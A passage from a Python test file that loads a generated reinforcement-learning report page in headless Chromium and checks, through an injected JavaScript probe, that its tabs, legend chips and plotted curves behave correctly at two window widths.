  for (const tab of document.querySelectorAll("[role=tab]")) { tab.click(); rest.push(...visible()); }
  out.every = rest;
  click("#tab-curves");
  out.second = visible();
  setTimeout(() => {
    out.drawn = paths();
    out.labels = [...document.querySelectorAll(".chip span")].map(s => s.textContent);
    click(".chip");
    out.toggled = paths();
    click(".chip");
    out.back = paths();
    out.wide = document.documentElement.scrollWidth - innerWidth;
    document.documentElement.dataset.out = JSON.stringify(out);
  }, 300);
}, 100));
</script>"""


@pytest.mark.slow
@pytest.mark.skipif(not shutil.which("chromium"), reason="no Chromium on this machine")
@pytest.mark.parametrize("width", [1200, 500])
def test_tabs_and_toggles_work_in_a_browser(suite, tmp_path, width):
    write_run(suite / "hostile", algo=HOSTILE)
    path = rp.report([suite], tmp_path / "r.html")
    path.write_text(path.read_text().replace("<title>", PROBE + "<title>"))
    command = ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"]
    command += ["--disable-background-networking", "--disable-component-update", "--disable-sync"]
    command += [f"--user-data-dir={tmp_path / 'profile'}", f"--window-size={width},900", "--virtual-time-budget=5000"]
    done = subprocess.run(
        [*command, "--enable-logging=stderr", "--dump-dom", path.as_uri()], capture_output=True, text=True, timeout=120
    )
    attributes = re.search(r"<html[^>]*>", done.stdout).group()
    assert "data-error" not in attributes and "CONSOLE" not in done.stderr
    out = json.loads(html.unescape(re.search(r'data-out="([^"]*)"', attributes).group(1)))
    assert out["first"] == ["overview"] and out["second"] == ["curves"]
    assert out["every"] == ["overview", "curves", "profiles", "exploration", "states", "videos", "data"]
    assert out["labels"] == sorted([HOSTILE, "maxinfo-sac", "sac"])
    assert out["drawn"] == out["back"] == 6 and out["toggled"] == 4  # a band and a line each
    assert out["wide"] <= 0
